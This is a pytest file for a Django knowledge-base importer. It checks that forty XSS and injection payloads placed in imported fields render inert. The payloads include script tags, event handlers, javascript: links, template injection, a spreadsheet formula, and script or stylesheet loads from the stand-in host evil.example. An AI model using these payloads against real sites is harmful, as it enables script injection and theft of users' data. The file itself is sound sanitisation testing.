"""Forty scripts in every cell: what is shown afterwards runs nothing."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.test import Client

from kb.importing.targets import HEADER, NEEDS, SECTIONS
from kb.models import Entry
from tests.kb.importing.records import PRACTICE, practice, run, write

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a linktype='page' id='1'>x</a>",
    "<p onclick=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<b onmouseover=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '"><script>alert(1)</script>',
    "';alert(1);//",
    "</title><script>alert(1)</script>",
    "{{ ''.__class__ }}{% debug %}",
    '=HYPERLINK("http://evil.example","x")',
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]
ACTIVE = {"iframe", "object", "embed", "base", "video", "audio", "style", "link", "meta", "template", "math"}
ADDRESS = re.compile(r"\s*(?:javascript|vbscript|data:text)", re.IGNORECASE)


class Active(HTMLParser):
    """Collects what a browser would run or fetch of a piece of a page."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        own = given.get("src", "").startswith("/static/") or given.get("type", "").startswith("application/")
        if tag in ACTIVE or (tag == "script" and not own):
            self.found.append(tag)
        self.found += [
            f"{tag} {name}" for name, value in given.items() if name.startswith("on") or ADDRESS.match(value)
        ]
        if {"linktype", "style"} & set(given):
            self.found.append(f"{tag} {sorted(given)}")


PROSE = ("problem", "description", "effectiveness", "adaptations")
FREE = [
    name
    for name in (*HEADER, *SECTIONS, *NEEDS, "locator", "licence", "publisher", "reference_title")
    if name in PRACTICE and name not in ("key", "language", "kind", "evidence", "review_by", "side_effects")
]


def test_what_runs_would_be_found() -> None:
    assert Active("<p onclick=x()><a href=' javascript:x'><script>x</script>").found == [
        "p onclick",
        "a href",
        "script",
    ]
    assert Active("&lt;script&gt;<script src='/static/x.js'></script>").found == []


def test_there_are_forty() -> None:
    assert len(set(PAYLOADS)) == 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_script_in_every_cell_is_inert_wherever_it_is_shown(tmp_path: Path, payload: str, client: Client) -> None:
    cells = dict.fromkeys(FREE, f"{payload} Words {payload}")
    cells |= {
        "title": f"{payload} Words"[:120],
        "steps": f"{payload} Words"[:160],
        "standards": payload + " Words",
        "adaptations": payload + " Words",
        "keywords": payload[:90] + " word",
        "side_effects": f"access | {payload} Words",
    }
    code, told = run(write(tmp_path / "a.jsonl", [practice(1, **cells)]))
    assert code == 0, told
    entry = Entry.objects.get()
    page = client.get(entry.get_absolute_url())
    assert page.status_code == 200
    text = page.content.decode()
    inside = text[text.index("<main") : text.index("</main>")]
    assert Active(inside).found == []
    assert "\x00" not in text
    for name in PROSE:
        assert Active(entry.section(name).source).found == []
    assert not entry.title.startswith("=")
    revision = entry.latest_revision.as_object()
    assert [revision.section(name).source for name in PROSE] == [entry.section(name).source for name in PROSE]
